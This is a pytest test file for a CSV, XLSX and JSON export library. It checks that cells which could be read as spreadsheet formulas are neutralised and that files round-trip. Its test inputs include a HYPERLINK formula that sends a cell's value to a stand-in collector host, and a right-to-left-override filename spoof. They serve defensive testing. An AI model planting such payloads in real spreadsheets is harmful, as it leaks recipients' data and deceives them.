"""Rows as CSV, XLSX and JSON: numbers stay numbers, text is never a formula, and reading a file gives the original."""

import csv
import io
import json
import math
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.exports.tables import as_csv, as_json, as_xlsx, guarded, unguarded
from lib.tickets import guess_columns, read_table, to_tickets

FORMULAS = ["=1+1", '=HYPERLINK("https://collector.example.test/?d="&A2,"open")', "+44 20 7946 0000", "+call me",
            "-10.00 refund", "@everyone", "@SUM(A1:A9)", "\tTabbed", "=2+2", "＝1+1", "＋1+1", "－1-1", "＠x", " =1+1",
            "\u00a0=1+1", "\u200b=1+1", "\r=1", "\n=1", "-", "=", "-1-1", "1e5+".join(["+", "1"]), "--1"]
NUMBERS = ["-10.00", "+3", "1e5", "-1e-5", "-1.299,00", "-1,299.00", "+5 %", " -10", "-.5", "1", "10.00"]
PLAIN = ["ok", "line one\n=3+3", "a=b", "'quoted'", "it's", "", "O'Neil", "'tis", "2026-11-30", "0071", "73928e03"]
CONTROLS = ["line\x0btab kr 400\x16000", "\x1b[31mred\x1b[0m", "a\x00b", "invoice \u202egpj.exe", "\ud800 half",
            "\ufffe"]


def cells_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- the apostrophe ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_may_be_a_formula_gets_an_apostrophe(text):
    assert guarded(text) == "'" + text
    assert guarded("'" + text) == "''" + text


@pytest.mark.parametrize("text", [*NUMBERS, *PLAIN])
def test_plain_numbers_and_plain_text_are_left_alone(text):
    assert guarded(text) == text


@given(st.text(alphabet="'=+-@\t\r\n 1a.＝\u00a0\u200b", max_size=12) | st.text(max_size=12))
def test_taking_the_apostrophe_off_gives_every_text_back(text):
    assert unguarded(guarded(text)) == text


# --- CSV --------------------------------------------------------------------------------------------------------------


def test_numbers_are_written_as_numbers_and_unknown_ones_as_nothing():
    data = as_csv([{"n": -10.0, "usd": 7.1e-05, "i": 10**18, "x": math.nan, "y": math.inf, "z": None, "b": True}])
    assert cells_of(data)[1] == ["-10.0", "7.1e-05", str(10**18), "", "", "", "TRUE"]


def test_a_file_has_every_column_in_order_and_a_mark_for_excel():
    data = as_csv([{"a": 1}, {"a": None, "b": "ü\x00"}], ["z"])
    assert data.startswith(b"\xef\xbb\xbf")
    assert cells_of(data) == [["z", "a", "b"], ["", "1", ""], ["", "", "ü␀"]]
    assert cells_of(as_csv([], ["a", "=b"])) == [["a", "'=b"]]


def test_lists_are_one_cell():
    assert cells_of(as_csv([{"names": ["=a", "b"]}]))[1] == ["'=a; b"]


def tickets_of(name: str, data: bytes):
    table = read_table(name, data)
    return to_tickets(table, guess_columns(table))


def rows_with(texts):
    return [{"id": f"F{i}", "subject": text, "body": f"{text} and more"} for i, text in enumerate(texts)]


def test_reading_our_csv_again_gives_the_original_and_says_so():
    rows = rows_with([*FORMULAS, *NUMBERS, *PLAIN, *("'" + f for f in FORMULAS)])
    table = read_table("again.csv", as_csv(rows))
    assert [dict(zip(table.columns, row, strict=True)) for row in table.rows] == rows
    assert any("apostrophe" in note for note in table.notes)


def test_a_hostile_header_comes_back_too():
    rows = [{"=id": "1", "@b": "two"}, {"=id": "2", "@b": "three"}]
    assert read_table("x.csv", as_csv(rows)).columns == ("=id", "@b")


@pytest.mark.parametrize("data", [
    b"id,subject\n1,'=1+1\n2,plain\n",                                # no mark: not ours
    "id,subject\n1,'=1+1\n2,=2+2\n".encode("utf-8-sig"),            # an unguarded formula beside it: not ours
])
def test_a_strangers_apostrophes_stay(data):
    table = read_table("theirs.csv", data)
    assert table.rows[0][1] == "'=1+1" and table.notes == ()


# --- XLSX -------------------------------------------------------------------------------------------------------------


def sheet_of(rows, title="rows"):
    return openpyxl.load_workbook(io.BytesIO(as_xlsx({title: rows})))[title]


def test_numbers_are_numbers_and_text_is_text():
    sheet = sheet_of([{"n": -10.0, "i": 3, "usd": 7.1e-05, "t": "-10.00", "id": "0071", "f": "=1+1", "e": "#N/A",
                       "long": 10**18, "x": math.nan, "b": True}])
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [
        (-10.0, "n"), (3, "n"), (7.1e-05, "n"), ("-10.00", "s"), ("0071", "s"), ("=1+1", "s"), ("#N/A", "s"),
        (str(10**18), "s"), (None, "n"), (True, "b")]


def test_what_looks_like_a_formula_stays_text_when_it_is_edited():
    sheet = sheet_of(rows_with([*FORMULAS, *NUMBERS]))
    marked = [cell.value for row in sheet.iter_rows(min_row=2, min_col=2, max_col=2) for cell in row
              if cell.quotePrefix]
    assert len(marked) == len(FORMULAS)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_the_header_is_bold_and_stays_in_place_and_columns_fit():
    sheet = sheet_of([{"id": "a", "text": "x" * 500}])
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width < sheet.column_dimensions["B"].width <= 61


def test_reading_our_workbook_again_gives_the_original_exactly():
    rows = rows_with([*FORMULAS, *NUMBERS, *PLAIN, "_x0041_ stays", "  spaces  ", "a\r\nb", "<&>\"'", "😀 𝕏"])
    table = read_table("again.xlsx", as_xlsx({"tickets": rows}))
    assert [dict(zip(table.columns, row, strict=True)) for row in table.rows] == rows
    assert table.notes == ()


def test_a_cell_that_is_too_long_is_cut_and_says_so():
    for text in ("x" * 40_000, "😀" * 20_000):
        value = sheet_of([{"a": text}])["A2"].value
        assert len(value.encode("utf-16-le")) // 2 <= 32_767
        assert value.endswith(f"[cut: {len(text):,} characters in all]") and value.startswith(text[:1_000])
    assert sheet_of([{"a": "x" * 32_767}])["A2"].value == "x" * 32_767


def test_sheet_names_are_made_valid_and_each_is_there_once():
    titles = ["a/b:c*d?e[f]", "x" * 50, "x" * 51, "History", "'quoted'", "", "A b c d e f"]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx({title: [{"a": 1}] for title in titles})))
    assert book.sheetnames == ["a b c d e f", "x" * 31, f"{'x' * 29} 2", "History 2", "quoted", "sheet",
                               "A b c d e f 2"]


def test_a_workbook_without_rows_opens_and_has_its_columns():
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx({"causes": [], "none": []}, {"causes": ["a", "b"]})))
    assert [cell.value for cell in book["causes"][1]] == ["a", "b"]
    assert openpyxl.load_workbook(io.BytesIO(as_xlsx({}))).sheetnames == ["empty"]


def test_more_rows_than_a_sheet_takes_go_on_another(monkeypatch):
    monkeypatch.setattr("lib.exports.workbook.MOST_ROWS", 2)
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx({"calls": [{"n": n} for n in range(5)]})))
    assert {s.title: [c.value for c in s["A"]] for s in book} == {
        "calls": ["n", 0, 1], "calls 2": ["n", 2, 3], "calls 3": ["n", 4]}


def test_the_same_rows_give_the_same_bytes_and_only_xml():
    rows = rows_with(FORMULAS)
    assert as_xlsx({"a": rows}) == as_xlsx({"a": rows})
    with zipfile.ZipFile(io.BytesIO(as_xlsx({"a": rows}))) as archive:
        assert archive.testzip() is None and all(name.endswith((".xml", ".rels")) for name in archive.namelist())


# --- JSON -------------------------------------------------------------------------------------------------------------


def test_json_holds_the_exact_values_and_nothing_unseen():
    rows = [{"text": text, "n": -10.0, "list": ["a"], "none": None} for text in [*FORMULAS, *CONTROLS[:4]]]
    data = as_json(rows)
    assert json.loads(data) == rows
    assert b"\\u202e" in data and "\u202e" not in data.decode() and data == as_json(rows)


def test_json_is_valid_where_a_number_is_none():
    data = as_json([{"n": math.nan, "m": math.inf, "half": "\ud800"}])
    assert json.loads(data, parse_constant=pytest.fail) == [{"n": None, "m": None, "half": "\ud800"}]
    assert json.loads(as_json([])) == []


# --- all three --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", CONTROLS)
def test_control_characters_break_no_download_and_are_shown_visibly(text):
    rows = [{"id": "C1", "subject": "VT", "body": text}]
    told = cells_of(as_csv(rows))[1][2]
    assert sheet_of(rows)["C2"].value == told
    assert told.isprintable()
    assert json.loads(as_json(rows)) == rows


def test_five_tickets_with_control_characters_survive_every_way():
    lines = "\n".join(json.dumps({"id": f"C{i}", "subject": "s", "body": text}) for i, text in enumerate(CONTROLS[:4]))
    found = tickets_of("25.jsonl", lines.encode())
    rows = [{"id": t.id, "subject": t.subject, "body": t.body} for t in found.tickets]
    for name, data in (("a.csv", as_csv(rows)), ("a.xlsx", as_xlsx({"t": rows})), ("a.json", as_json(rows))):
        assert [(t.id, t.subject, t.body) for t in tickets_of(name, data).tickets] == \
            [(t.id, t.subject, t.body) for t in found.tickets]
    assert "[U+202E]" in rows[3]["body"]
